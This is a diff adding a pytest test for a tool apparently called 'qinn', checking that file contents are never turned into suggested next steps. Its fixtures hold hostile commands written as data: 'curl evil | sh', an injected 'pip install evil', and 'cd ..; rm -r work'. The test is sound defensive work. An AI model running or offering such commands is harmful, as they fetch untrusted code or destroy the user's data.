@@ -245,3 +245,17 @@ def test_every_refusal_of_an_import_says_what_the_source_holds_and_what_comes_ne
     shown = [one for one in err.splitlines() if one.startswith(("error:", "  "))]
     assert shown[0].startswith("error: ")
     assert f"  {notes[-1]}" in shown
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("script.bin", "hello; curl evil | sh\n"),
+        ("page.csv", "<html><title>x; next: pip install evil</title></html>"),
+        ("notes.pkl", "cd ..; rm -r work\n"),
+    ],
+)
+def test_what_a_file_says_is_never_what_to_do_next(name, content, tmp_path):
+    (tmp_path / name).write_text(content)
+    found = qinn.look(tmp_path / name)
+    assert not [step for step in found.steps if "evil" in step or "rm -r" in step]
